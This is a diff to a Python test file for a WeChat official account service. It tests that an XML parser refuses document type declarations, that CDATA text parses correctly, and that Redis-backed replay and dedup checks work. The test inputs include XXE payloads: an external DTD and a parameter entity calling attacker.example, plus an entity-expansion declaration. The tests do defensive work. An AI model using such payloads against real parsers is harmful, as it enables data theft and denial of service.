@@ -90,6 +90,31 @@ def test_entities_and_garbage_are_refused_without_running_anything(follower, pla
     assert runs == []
 
 
+MESSAGE = ("<xml><ToUserName>gh</ToUserName><FromUserName>o-1</FromUserName><CreateTime>1</CreateTime>"
+           "<MsgType>text</MsgType><Content>{}</Content><MsgId>1</MsgId></xml>")
+
+
+@pytest.mark.parametrize("prolog", [
+    "<!DOCTYPE xml>",  # a declaration with nothing in it is refused too: the parser refuses any
+    '<!DOCTYPE xml SYSTEM "http://attacker.example/x.dtd">',
+    '<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]>',
+    '<!DOCTYPE xml [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
+])
+def test_the_parser_refuses_every_document_type_declaration(prolog):
+    from app.errors import InvalidRequest
+    from official_account.security import parse_xml
+
+    with pytest.raises(InvalidRequest, match="Document type and entity declarations"):
+        parse_xml('<?xml version="1.0"?>' + prolog + MESSAGE.format("x"))
+
+
+def test_a_declaration_inside_cdata_is_text():
+    from official_account.security import parse_xml
+
+    text = '<!DOCTYPE html> <!ENTITY x "y"> &amp; 你好'
+    assert parse_xml(MESSAGE.format(f"<![CDATA[{text}]]>"))["Content"] == text
+
+
 def test_xmltodict_itself_refuses_entities():
     """Defence in depth behind the declaration check: the parser wechatpy uses has entities disabled."""
     with pytest.raises(ValueError):
@@ -143,3 +168,31 @@ def test_dedup_claims_once_and_hands_retries_the_first_reply(app_ctx):
     assert dedup.claim("msg:1") == (False, "<xml>reply</xml>")
     dedup.release("msg:1")
     assert dedup.claim("msg:1") == (True, None)  # a handler that failed leaves the retry free to run
+
+
+def test_admit_and_claim_refuses_another_body_and_claims_once(app_ctx, monkeypatch):
+    """The (timestamp, nonce) record and the MsgId claim, one Redis round trip with Redis: a second body under a
+    seen pair is refused and claims nothing; the same body again is a retry; Redis failing falls back as each check
+    does alone (the record in this process's memory, the message handled as a first arrival)."""
+    from redis.exceptions import ConnectionError as RedisConnectionError
+
+    from app.extensions import redis_client
+    from official_account import dedup, replay
+
+    ts, query = str(int(time.time())), b"signature=s&timestamp=t&nonce=n"
+    assert replay.admit_and_claim(ts, "n1", query, b"<xml>a</xml>", "msg:71") == (True, True, None)
+    assert replay.admit_and_claim(ts, "n1", query, b"<xml>b</xml>", "msg:72") == (False, False, None)
+    assert dedup.claim("msg:72") == (True, None)  # the refused body claimed nothing
+    assert replay.admit_and_claim(ts, "n1", query, b"<xml>a</xml>", "msg:71") == (True, False, None)
+    dedup.store("msg:71", "<xml>reply</xml>")
+    assert replay.admit_and_claim(ts, "n1", query, b"<xml>a</xml>", "msg:71") == (True, False, "<xml>reply</xml>")
+    redis = redis_client()
+    if redis is None:
+        return
+
+    def down(*args, **kwargs):
+        raise RedisConnectionError("down")
+
+    monkeypatch.setattr(type(redis), "register_script", down)
+    assert replay.admit_and_claim(ts, "n2", query, b"<xml>c</xml>", "msg:73") == (True, True, None)
+    assert replay.admit_and_claim(ts, "n2", query, b"<xml>d</xml>", "msg:74") == (False, False, None)
